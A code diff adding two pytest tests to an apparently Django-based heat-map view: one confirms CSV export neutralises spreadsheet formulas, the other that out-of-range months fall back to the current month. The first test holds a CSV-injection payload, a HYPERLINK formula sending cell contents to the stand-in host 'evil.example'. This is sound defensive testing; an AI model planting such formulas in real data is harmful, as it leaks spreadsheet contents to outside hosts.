@@ -526,3 +526,20 @@ def test_conflict_page_query_count_does_not_grow_with_colleagues_free_to_take_ov
         assert len(person_scope.reassign.candidates) == size
         client.logout()
     assert counts == [QUERIES["conflict"]] * 2
+
+
+def test_csv_export_neutralises_formulas(client, case, viewer):
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    Role.objects.filter(pk=case.role.pk).update(name=formula)
+    client.force_login(viewer)
+    response = client.get(heat_map_url(), {**WINDOW, "format": "csv"})
+    lines = list(csv.reader(io.StringIO(response.content.decode())))
+    assert {line[0] for line in lines[1:]} == {"'" + formula}
+
+
+@pytest.mark.parametrize("first", ["0001-01", "9999-12"])
+def test_a_month_outside_the_window_falls_back_to_this_month(client, case, viewer, first):
+    client.force_login(viewer)
+    response = client.get(heat_map_url(), {"from": first, "months": 3})
+    assert response.status_code == 200
+    assert response.context["window"].first_month == timezone.localdate().replace(day=1)
